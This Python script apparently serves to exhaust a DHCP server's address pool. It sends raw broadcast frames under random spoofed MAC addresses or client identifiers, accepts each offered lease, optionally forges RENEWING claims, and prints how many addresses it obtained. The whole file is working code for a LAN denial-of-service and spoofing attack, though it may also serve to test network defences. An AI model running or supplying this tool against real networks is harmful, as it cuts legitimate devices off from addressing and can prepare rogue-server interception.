"""A phone that takes addresses of the DHCP server under made-up hardware addresses, frame by frame on the wire.

``python greedy_leases.py INTERFACE COUNT PER-SECOND MODE``; MODE: ``chaddr`` (the frame keeps the phone's own MAC),
``frame`` (the frame has the made-up MAC as well), ``client-id`` (one MAC, many client identifiers), ``claim`` (as
``frame``, and each claims at once to have an address already, RFC 2131 §4.3.2 RENEWING). Prints how many it was given.
"""

from __future__ import annotations

import secrets
import select
import socket
import struct
import sys
import time
from contextlib import suppress

MAGIC = b"\x63\x82\x53\x63"
DISCOVER, OFFER, REQUEST, ACK = 1, 2, 3, 5
ALL = b"\xff" * 6


def message(kind: int, chaddr: bytes, number: int, options: bytes = b"", ciaddr: str = "0.0.0.0") -> bytes:  # noqa: S104
    """A BOOTP message that asks for a broadcast answer."""
    head = struct.pack("!BBBBIHH4s12x16s192x", 1, 1, 6, 0, number, 0, 0x8000, socket.inet_aton(ciaddr), chaddr)
    return head + MAGIC + bytes([53, 1, kind]) + options + b"\xff"


def frame(source: bytes, payload: bytes, origin: str = "0.0.0.0") -> bytes:  # noqa: S104
    """Broadcast, from port 68 to 67; without a UDP checksum."""
    udp = struct.pack("!HHHH", 68, 67, 8 + len(payload), 0) + payload
    head = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), 1, 0, 64, 17, 0, socket.inet_aton(origin), b"\xff" * 4)
    total = sum(struct.unpack("!10H", head))
    total = (total & 0xFFFF) + (total >> 16)
    checked = head[:10] + struct.pack("!H", ~((total & 0xFFFF) + (total >> 16)) & 0xFFFF) + head[12:]
    return ALL + source + b"\x08\x00" + checked + udp


class Greedy:
    """One interface. ``given``: addresses acknowledged, by what was made up."""

    def __init__(self, interface: str, mode: str) -> None:
        self.mode = mode
        self._wire = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(0x0800))
        self._wire.bind((interface, 0x0800))
        self._own = self._wire.getsockname()[4]
        self._asked: dict[int, tuple[bytes, bytes]] = {}
        self.given: set[bytes] = set()

    def ask(self, place: int) -> None:
        """One more made-up phone."""
        chaddr = self._own if self.mode == "client-id" else b"\x06" + secrets.token_bytes(5)
        source = chaddr if self.mode in ("frame", "claim") else self._own
        number = secrets.randbits(32)
        self._asked[number] = (chaddr, source)
        if self.mode == "claim":
            address = f"10.90.{1 + place // 200}.{place % 200 + 10}"
            self._send(source, message(REQUEST, chaddr, number, ciaddr=address), address)
            return
        self._send(source, message(DISCOVER, chaddr, number, self._identity(number)))

    def listen(self, seconds: float) -> None:
        """Answer offers, note acknowledgements."""
        until = time.monotonic() + seconds
        while (left := until - time.monotonic()) > 0:
            if not select.select([self._wire], [], [], left)[0]:
                return
            self._take(self._wire.recv(2048))

    def _identity(self, number: int) -> bytes:
        return b"\x3d\x05\x00" + struct.pack("!I", number) if self.mode == "client-id" else b""

    def _take(self, packet: bytes) -> None:
        payload = packet[42:]
        if packet[23:24] != b"\x11" or packet[34:36] != b"\x00\x43" or payload[236:240] != MAGIC:
            return
        (number,) = struct.unpack_from("!I", payload, 4)
        if number not in self._asked:
            return
        chaddr, source = self._asked[number]
        if payload[242] == OFFER:
            server = payload[payload.index(b"\x36\x04", 240) :][:6]
            options = b"\x32\x04" + payload[16:20] + server + self._identity(number)
            self._send(source, message(REQUEST, chaddr, number, options))
        elif payload[242] == ACK:
            self.given.add(payload[16:20])

    def _send(self, source: bytes, payload: bytes, origin: str = "0.0.0.0") -> None:  # noqa: S104
        with suppress(OSError):
            self._wire.send(frame(source, payload, origin))


def main(interface: str, count: str, per_second: str, mode: str) -> None:
    """See above."""
    greedy = Greedy(interface, mode)
    for place in range(int(count)):
        greedy.ask(place)
        greedy.listen(1 / float(per_second))
    greedy.listen(5.0)
    sys.stdout.write(f"{len(greedy.given)}\n")


if __name__ == "__main__":
    main(*sys.argv[1:])
